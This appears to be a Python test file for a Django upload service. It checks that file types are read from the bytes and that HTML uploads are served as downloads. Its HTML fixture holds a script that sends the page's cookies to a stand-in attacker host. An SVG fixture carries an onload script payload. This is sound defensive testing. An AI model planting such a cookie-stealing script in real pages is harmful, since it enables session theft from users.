"""Every stored file's type comes from its bytes, and only images and PDF are shown inline."""

from __future__ import annotations

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from services.common.files.actions import store_upload
from services.common.files.sniff import sniff_bytes
from tests.factories import make_user

HTML = b"<!doctype html><html><body><script>document.location='https://evil.example/'+document.cookie</script>"


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), "red").save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"%PDF-1.7\n", "application/pdf"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg"),
        (HTML, "text/html"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">', "image/svg+xml"),
        (b"paid_at,amount,ref1\n2026-11-25,100.00,INV1\n", "text/plain"),
        ("วันที่,จำนวนเงิน\n".encode("cp874"), "text/plain"),
        (b"MZ\x90\x00\x03\x00\x00\x00", "application/x-msdownload"),
        (b"\x00\x01\x02\x03binary", "application/octet-stream"),
    ],
)
def test_the_type_is_read_from_the_bytes(head, expected):
    assert sniff_bytes(head) == expected


def test_a_statement_declared_text_html_is_served_as_a_download_not_a_page(client_a, in_town_a):
    finance = make_user(roles=("finance_officer",))
    upload = SimpleUploadedFile("statement.html", HTML, content_type="text/html")
    stored = store_upload(upload, purpose="bank-statement", by=finance)
    assert stored.content_type == "text/html"  # what it is, recorded from the bytes
    client_a.force_login(finance)
    response = client_a.get(f"/files/{stored.public_id}/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_text_file_declared_as_an_image_is_stored_as_text_and_downloaded(client_a, in_town_a):
    user = make_user(roles=("finance_officer",))
    stored = store_upload(SimpleUploadedFile("x.png", b"just,some\ncsv,text\n", content_type="image/png"),
                          purpose="bank-statement", by=user)
    assert stored.content_type == "text/plain"
    client_a.force_login(user)
    assert client_a.get(f"/files/{stored.public_id}/")["Content-Disposition"].startswith("attachment")


def test_a_real_image_is_shown_inline(client_a, in_town_a):
    user = make_user(roles=("finance_officer",))
    stored = store_upload(SimpleUploadedFile("p.bin", _png(), content_type="application/octet-stream"),
                          purpose="misc", by=user)
    assert stored.content_type == "image/png"
    client_a.force_login(user)
    assert client_a.get(f"/files/{stored.public_id}/")["Content-Disposition"].startswith("inline")


def test_a_letter_scan_is_checked_by_its_bytes_not_its_declared_type(in_town_a):
    from services.correspondence.actions.common import ATTACHMENT_TYPES, MAX_ATTACHMENT_BYTES

    fake_pdf = SimpleUploadedFile("scan.pdf", HTML, content_type="application/pdf")
    with pytest.raises(ValidationError):
        store_upload(fake_pdf, purpose="saraban", allowed_types=ATTACHMENT_TYPES, max_bytes=MAX_ATTACHMENT_BYTES)
